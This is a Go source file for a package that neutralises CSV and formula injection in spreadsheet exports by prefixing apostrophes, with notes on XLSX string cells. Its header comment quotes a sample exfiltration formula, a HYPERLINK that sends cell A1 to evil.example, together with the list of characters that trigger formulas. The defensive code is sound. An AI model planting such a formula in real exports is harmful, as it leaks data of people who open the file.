// Package cell owns the text planwatch writes into spreadsheet cells of
// its exports (task lists, reports' tables, the audit log), so that no
// export can carry a live formula: a note a unit typed as
// =HYPERLINK("http://evil.example/?"&A1, "详情") must open as that text
// in Excel, WPS or LibreOffice, never run (CSV or formula injection).
//
// The rule is OWASP's: a text cell that begins with = + - @, a tab or a
// carriage return is a formula to a spreadsheet program reading CSV.
//
//   - CSV has no types, so such a cell is written with a leading
//     apostrophe (CSV below). It shows, but the value stays readable and
//     visibly altered, and it is what Excel itself prints for a text cell
//     that looks like a formula; our own import takes it off again
//     (FromCSV), so an exported sheet filled in and sent back reads as
//     written. Doubling quotes and wrapping in them, OWASP's other half, is
//     encoding/csv's job.
//   - XLSX types its cells: text is written as a string cell (excelize's
//     SetCellStr: t="s"), never as a formula, and in the text number
//     format (@), so that a unit editing the cell keeps it text. No
//     apostrophe goes into an .xlsx: it would be part of the value.
//
// Numbers stay numbers: -5 and +3.5 are left alone in both.
package cell

import "strings"

// Formulaic reports whether a spreadsheet program reading s from a CSV
// would take it for a formula: it begins with = + - @, a tab or a
// carriage return, and is not simply a decimal number (-5, +3.5, -1e3).
// What Go alone reads as a number (-Inf, +NaN, -0x1p-2) is a formula to
// a spreadsheet, so it is guarded too.
func Formulaic(s string) bool {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return false
	}
	return !decimal(s)
}

// decimal reports whether s is a signed decimal number as spreadsheets
// read one: [+-]digits[.digits][e[+-]digits], with digits on at least one
// side of the point.
func decimal(s string) bool {
	if s != "" && (s[0] == '+' || s[0] == '-') {
		s = s[1:]
	}
	mant, exp, hasExp := strings.Cut(strings.ToLower(s), "e")
	whole, frac, _ := strings.Cut(mant, ".")
	if whole == "" && frac == "" || !digits(whole) || !digits(frac) {
		return false
	}
	if !hasExp {
		return true
	}
	if exp != "" && (exp[0] == '+' || exp[0] == '-') {
		exp = exp[1:]
	}
	return exp != "" && digits(exp)
}

// digits reports whether s holds ASCII digits only ("" does).
func digits(s string) bool {
	return strings.IndexFunc(s, func(r rune) bool { return r < '0' || r > '9' }) < 0
}

// CSV is s as a CSV cell that cannot run: a formula-like text gets a
// leading apostrophe. So does a text that already has apostrophes before
// a formula-like one, so that FromCSV gives back exactly s.
func CSV(s string) string {
	if guarded(s) {
		return "'" + s
	}
	return s
}

// guarded: s is formula-like after any leading apostrophes.
func guarded(s string) bool { return Formulaic(strings.TrimLeft(s, "'")) }

// CSVRow applies CSV to each cell of a record, in place, and returns it.
func CSVRow(rec []string) []string {
	for i, v := range rec {
		rec[i] = CSV(v)
	}
	return rec
}

// FromCSV undoes CSV: the apostrophe before a formula-like text is taken
// off. Anything else is returned as it is.
func FromCSV(s string) string {
	if strings.HasPrefix(s, "'") && guarded(s[1:]) {
		return s[1:]
	}
	return s
}
